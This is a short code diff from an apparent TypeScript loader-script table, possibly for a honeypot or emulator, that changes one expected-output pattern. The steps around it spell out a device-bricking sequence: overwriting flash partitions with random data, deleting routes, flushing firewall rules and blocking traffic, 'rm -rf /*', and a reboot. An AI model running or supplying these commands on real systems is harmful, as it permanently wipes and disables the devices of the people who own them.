@@ -235,7 +235,7 @@ export const LOADERS: readonly LoaderScript[] = [
       { send: 'busybox cat /dev/urandom >/dev/mtdblock1 &', expect: PROMPT },
       { send: 'dd if=/dev/urandom of=/dev/mtdblock2 bs=1024 count=64; route del default; iproute del default', expect: /records out[^]*iproute: not found/ },
       { send: 'iptables -F; iptables -t nat -F; iptables -A OUTPUT -j DROP; echo rules', expect: /rules\r\n/ },
-      { send: 'rm -rf /* 2>/dev/null; sysctl -w net.ipv4.tcp_timestamps=0; ls /; echo left', expect: /bin[^]*left\r\n/ },
+      { send: 'rm -rf /* 2>/dev/null; sysctl -w net.ipv4.tcp_timestamps=0; ls /; echo left', expect: /left\r\n/ },
       { send: 'reboot', expect: /^/ },
     ],
     indicators: [],
